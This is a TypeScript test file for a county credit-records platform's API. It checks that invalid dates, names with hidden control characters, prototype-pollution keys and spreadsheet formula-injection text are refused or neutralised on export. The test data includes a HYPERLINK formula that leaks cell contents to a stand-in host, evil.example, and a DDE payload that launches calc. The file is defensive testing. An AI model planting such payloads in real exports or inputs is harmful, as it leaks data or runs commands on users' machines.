/**
 * Hostile dates, names and keys through the API of a local platform (issue 13, classes 3e and 3f): HTTP
 * in, the stored state read back unchanged out, and the usage-list exports read back cell by cell (CSV
 * parsed per RFC 4180, XLSX with exceljs). "Today" is the platform clock's county-local day, never the
 * system date; the month end is crossed by moving that clock.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { addDays, localDate } from '../../shared/calendar/dates.ts';
import { workingDayCalendar } from '../../shared/calendar/working-day-calendar.ts';
import { loadCounty } from '../../shared/config/load-counties.ts';
import type { Role } from '../../shared/identity/roles.ts';
import { uploadIdOf } from '../../shared/reports/report-rules.ts';
import { keys } from '../../shared/storage/keys.ts';
import { residentIdCheckDigit } from '../../shared/subjects/resident-id.ts';
import { usccCheckCharacter } from '../../shared/subjects/uscc.ts';
import { periodContaining } from '../../shared/usage-lists/usage-periods.ts';
import { demoPdf } from '../../local/demo/load-demo-data.ts';
import type { LocalPlatform } from '../../local/platform.ts';
import { callApi, startTestPlatform } from '../support/platform-api.ts';
import { until } from '../support/until.ts';

vi.hoisted(() => {
  process.env.POWERTOOLS_LOG_LEVEL ??= 'WARN';
});

const county = loadCounty('zanhuang');
const calendar = workingDayCalendar(county.calendar);
const uscc = (body: string) => {
  const first17 = `91${county.divisionCode}${body}`;
  return first17 + usccCheckCharacter(first17);
};
const residentId = (birth: string) => {
  const first17 = `${county.divisionCode}${birth}123`;
  return first17 + residentIdCheckDigit(first17);
};
const organ = `11${county.divisionCode}MB0000001`;
const authority = { name: '赞皇县市场监督管理局', uscc: organ + usccCheckCharacter(organ) };
const formulaStart = /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

let platform: LocalPlatform;
let dynamo: DynamoDBDocumentClient;
let today: string;

const call = (method: string, path: string, role?: Role, orgId?: string, body?: unknown) => callApi(platform, method, path, role, orgId, body);
const office = (method: string, path: string, body?: unknown) => call(method, path, 'creditOffice', 'credit-office', body);
const dept = (method: string, path: string, body?: unknown, orgId = 'dept-market') => call(method, path, 'department', orgId, body);
const agency = (method: string, path: string, body?: unknown) => call(method, path, 'agency', 'agency-it', body);

const licence = (subject: object, decisionNumber: string, overrides: Record<string, unknown> = {}) => ({
  kind: 'licence',
  subject,
  decisionNumber,
  decisionDate: addDays(today, -3),
  authority,
  sourceDepartment: '赞皇县市场监督管理局',
  licenceDocumentName: '食品经营许可决定书',
  licenceCategory: '普通',
  licenceContent: '预包装食品销售',
  validFrom: addDays(today, -3),
  ...overrides,
});
const company = (serial: string, name = '赞皇县测试建材有限公司') => ({ name, category: 'legalPerson', uscc: uscc(serial) });
const recordsOf = async (subjectId: string) => (await office('GET', `/subjects/${subjectId}/records`)).body.records as unknown[];

beforeAll(async () => {
  platform = await startTestPlatform(county, 'hostile-dates');
  today = localDate(platform.clock.now(), county.timeZone);
  dynamo = DynamoDBDocumentClient.from(
    new DynamoDBClient({ endpoint: platform.endpoints.dynamodb, region: process.env.AWS_REGION!, credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID!, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY! } }),
  );
  expect((await office('POST', '/departments', { orgId: 'dept-market', name: '赞皇县市场监督管理局' })).status).toBeLessThan(300);
  const agencyBody = { agencyId: 'agency-it', name: '测试信用服务有限公司', uscc: uscc('MA1HTAGY0'), filingNumber: '信备〔2026〕9号', filingAuthority: '县信用办' };
  expect((await office('POST', '/agencies', agencyBody)).status).toBe(201);
}, 180_000);
afterAll(async () => {
  dynamo?.destroy();
  await platform?.stop();
});

describe('dates that are no day, or no plausible one: 400 naming the field, nothing stored, never a 500', () => {
  it.each(['2026-02-30', '2026-13-01', '0001-01-01', '9999-12-31', '275760-09-13'])('GET /public/county?date=%s', async (day) => {
    const answer = await call('GET', `/public/county?date=${day}`);
    expect(answer).toMatchObject({ status: 400, body: { error: { code: 'VALIDATION_FAILED', field: 'query.date' } } });
  });

  it.each(['2026-02-30', '2026-13-01', '0001-01-01', '9999-12-31'])('GET /checks?from=%s&to= the same, and GET /public/notices?date= the same', async (day) => {
    expect((await dept('GET', `/checks?from=${day}&to=${day}`)).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'query.from' });
    expect((await call('GET', `/public/notices?date=${day}`)).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'query.date' });
  });

  it('a record decided before 1949-10-01 or after today, or valid until 9999, is refused and not stored', async () => {
    const subject = company('MA1DATE01');
    const cases: [Record<string, unknown>, string][] = [
      [{ decisionDate: '1949-09-30' }, 'body.decisionDate'],
      [{ decisionDate: '0001-01-01', validFrom: '0001-01-01' }, 'body.decisionDate'],
      [{ decisionDate: addDays(today, 1) }, 'body.decisionDate'],
      [{ validTo: '9999-12-31' }, 'body.validTo'],
      [{ validFrom: '1900-01-01' }, 'body.validFrom'],
    ];
    for (const [i, [overrides, field]] of cases.entries()) {
      const answer = await dept('POST', '/records', licence(subject, `市监许〔2026〕D${i}号`, overrides));
      expect(answer, JSON.stringify(overrides)).toMatchObject({ status: 400, body: { error: { code: 'VALIDATION_FAILED', field } } });
    }
    const batch = await dept('POST', '/records', { records: cases.map(([overrides], i) => licence(subject, `市监许〔2026〕B${i}号`, overrides)) });
    expect(batch.body.results.map((r: { status: string; error?: { field: string } }) => [r.status, r.error?.field])).toEqual(cases.map(([, field], i) => ['invalid', field.replace('body.', `body.records.${i}.`)]));
    expect(await recordsOf(subject.uscc)).toEqual([]);
    // The first day of the range is taken.
    expect((await dept('POST', '/records', licence(subject, '市监许〔1949〕1号', { decisionDate: '1949-10-01', validFrom: '1949-10-01', validTo: '2099-12-31' }))).status).toBe(201);
    expect(await recordsOf(subject.uscc)).toHaveLength(1);
  });

  it('a person born after today is no subject: not recorded, not checked', async () => {
    const unborn = residentId(addDays(today, 1).replaceAll('-', ''));
    const person = { name: '张未生', category: 'naturalPerson', residentId: unborn };
    expect((await dept('POST', '/records', licence(person, '市监许〔2026〕P1号'))).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'body.subject.residentId' });
    const checksBefore = (await dept('GET', `/checks?from=${today}&to=${today}`)).body.checks.length;
    const matter = { type: county.matterTypes[0]!.id, reference: 'ZC-1', name: '办公设备采购' };
    expect((await dept('POST', '/checks', { subjectId: unborn, matter })).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'body.subjectId' });
    expect((await office('GET', `/subjects/${unborn}/records`)).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'path.subjectId' });
    expect((await dept('GET', `/checks?from=${today}&to=${today}`)).body.checks).toHaveLength(checksBefore);
  });

  it('a report announced as issued on a day that does not exist is refused; none is left pending', async () => {
    for (const [i, issueDate] of ['2026-02-30', '0001-01-01', addDays(today, 1)].entries()) {
      const reportNumber = `XY-BAD-${i}`;
      const answer = await agency('POST', '/reports/uploads', { subjectId: uscc('MA1DATE02'), reportNumber, reportType: 'comprehensive', issueDate, rating: 'A' });
      expect(answer.body.error, issueDate).toMatchObject({ code: 'VALIDATION_FAILED', field: 'body.issueDate' });
      expect((await agency('GET', `/reports/uploads/${uploadIdOf('agency-it', reportNumber)}`)).status).toBe(404);
    }
  });

  it('an upload stored with an impossible issue date (before this rule) ends rejected with a reason, not pending', async () => {
    const started = await agency('POST', '/reports/uploads', { subjectId: uscc('MA1DATE03'), reportNumber: 'XY-OLD-1', reportType: 'comprehensive', issueDate: addDays(today, -1), rating: 'A' });
    expect(started.status).toBe(201);
    // As an upload announced before the API refused such dates was stored.
    await dynamo.send(
      new UpdateCommand({ TableName: platform.names.creditTable, Key: keys.reportUpload(started.body.uploadId), UpdateExpression: 'SET issueDate = :d', ExpressionAttributeValues: { ':d': '2026-02-30' } }),
    );
    const form = new FormData();
    for (const [name, value] of Object.entries(started.body.upload.fields as Record<string, string>)) form.append(name, value);
    form.append('file', new Blob([demoPdf], { type: 'application/pdf' }), 'report.pdf');
    expect((await fetch(started.body.upload.url, { method: 'POST', body: form })).status).toBe(204);
    const state = await until('the upload to leave pending', async () => {
      const answer = await agency('GET', `/reports/uploads/${started.body.uploadId}`);
      return answer.body.state !== 'pending' ? answer.body : undefined;
    }, 20_000);
    expect(state).toMatchObject({ state: 'rejected', reason: expect.stringMatching(/issue date "2026-02-30" is not a real date/) });
  });
});

describe('names with bidi or zero-width controls, and prototype keys: 400 naming the field, nothing stored', () => {
  it('a department renamed with U+202E keeps its name; one registered with a zero-width space is not registered', async () => {
    const renamed = await office('POST', '/departments', { orgId: 'dept-market', name: '赞皇县市场\u202e局理管督监' });
    expect(renamed.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'body.name' });
    expect((await office('POST', '/departments', { orgId: 'dept-zw', name: '赞皇县\u200b财政局' })).body.error).toMatchObject({ field: 'body.name' });
    const listed = (await dept('GET', '/departments')).body.departments as { orgId: string; name: string }[];
    expect(listed.find((d) => d.orgId === 'dept-market')?.name).toBe('赞皇县市场监督管理局');
    expect(listed.find((d) => d.orgId === 'dept-zw')).toBeUndefined();
  });

  it.each([
    ['subject.name', (s: string) => ({ subject: company('MA1NAME01', `赞皇县测试\u2067建材有限公司${s}`) })],
    ['subject.legalRepresentative', () => ({ subject: { ...company('MA1NAME01'), legalRepresentative: '王\u200d法人' } })],
    ['authority.name', () => ({ authority: { ...authority, name: '赞皇县\u202d市场监督管理局' } })],
    ['decisionNumber', () => ({ decisionNumber: '市监许〔2026〕\u200f1号' })],
    ['sourceDepartment', () => ({ sourceDepartment: '\ufeff赞皇县市场监督管理局\u2060' })],
  ])('a record with a control character in %s', async (field, change) => {
    const answer = await dept('POST', '/records', { ...licence(company('MA1NAME01'), '市监许〔2026〕N1号'), ...change('') });
    expect(answer.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: `body.${field}` });
    expect(await recordsOf(uscc('MA1NAME01'))).toEqual([]);
  });

  it.each(['__proto__', 'constructor', 'prototype'])('a body with a "%s" key is refused like an unknown key, naming it', async (key) => {
    const department = await office('POST', '/departments', `{"orgId":"dept-proto","name":"赞皇县原型局","${key}":{"isAdmin":true}}`);
    expect(department.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: `body.${key}` });
    expect(((await dept('GET', '/departments')).body.departments as { orgId: string }[]).map((d) => d.orgId)).not.toContain('dept-proto');
    const record = JSON.stringify(licence(company('MA1NAME02'), '市监许〔2026〕K1号')).replace('"authority":{', `"authority":{"${key}":{"polluted":true},`);
    expect((await dept('POST', '/records', record)).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: `body.authority.${key}` });
    const batch = `{"records":[${record}]}`;
    expect((await dept('POST', '/records', batch)).body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: `body.records.0.authority.${key}` });
    expect(await recordsOf(uscc('MA1NAME02'))).toEqual([]);
  });
});

describe('a usage list whose every typed text starts like a formula, exported and read back', () => {
  const departmentName = '=HYPERLINK("http://evil.example/?leak="&A1,"赞皇县财政局")';
  const submitter = '@SUM(1+1)*cmd|" /C calc"!A0';
  const subjectName = '+赞皇县公式建材有限公司';
  const matter = { type: county.matterTypes[0]!.id, reference: '-1+2', name: '＝采购' };
  const usage = '\t=1+1 查询了信用记录';
  let month: ReturnType<typeof periodContaining>;

  /** RFC 4180 fields, as Excel and LibreOffice read them. */
  function parseCsv(text: string): string[][] {
    const lines: string[][] = [];
    let line: string[] = [];
    let field = '';
    let quoted = false;
    for (let i = 0; i < text.length; i += 1) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 1);
        else if (c === '"') quoted = false;
        else field += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') line.push(field), (field = '');
      else if (c === '\r' && text[i + 1] === '\n') line.push(field), lines.push(line), (line = []), (field = ''), (i += 1);
      else field += c;
    }
    return lines;
  }
  async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
    const response = await fetch(`${platform.apiUrl}/usage-lists/${month.id}/export?format=${format}`, { headers: { authorization: `Bearer ${await platform.token('department', 'dept-formula')}` } });
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  }

  beforeAll(async () => {
    month = periodContaining(today, county.usageList, calendar);
    expect((await office('POST', '/departments', { orgId: 'dept-formula', name: departmentName })).status).toBeLessThan(300);
    expect((await dept('POST', '/records', licence(company('MA1FXRM01', subjectName), '市监许〔2026〕F1号'))).status).toBe(201);
    const check = await dept('POST', '/checks', { subjectId: uscc('MA1FXRM01'), matter }, 'dept-formula');
    expect(check.status).toBe(201);
    expect((await dept('PUT', `/checks/${check.body.checkId}/outcome`, { usage, appliedMeasures: [], decision: 'approved' }, 'dept-formula')).status).toBe(200);
    await platform.clock.set(`${addDays(month.lastDay, 1)}T09:00:00+08:00`);
    expect((await dept('POST', `/usage-lists/${month.id}/submit`, { submitter }, 'dept-formula')).status).toBeLessThan(300);
  }, 120_000);

  it('CSV: every cell, the header rows (单位, 报送人) included, is text, with what was typed behind an apostrophe', async () => {
    const cells = parseCsv((await exported('csv')).subarray(3).toString('utf8'));
    expect(cells[1]).toEqual(['单位：', `'${departmentName}`]);
    expect(cells[2]).toEqual(['报送人：', `'${submitter}`]);
    expect(cells[5]).toEqual([`'${subjectName}`, `'${matter.name}（${county.matterTypes[0]!.name}，编号 ${matter.reference}）`, today, `'${usage.trim()}`, '无']); // the usage is stored trimmed
    expect(cells.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);
  });

  it('XLSX: no cell holds a formula or starts like one, header rows included, and the cells are those of the CSV', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('xlsx')) as never);
    const lines: string[][] = [];
    workbook.worksheets[0]!.eachRow((row) => {
      const cells: string[] = [];
      row.eachCell((cell) => {
        if (cell.isMerged && cell.master !== cell) return;
        expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(String(cell.value ?? ''));
      });
      lines.push(cells);
    });
    expect(lines.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);
    const csv = parseCsv((await exported('csv')).subarray(3).toString('utf8'));
    expect(lines).toEqual(csv);
  });
});
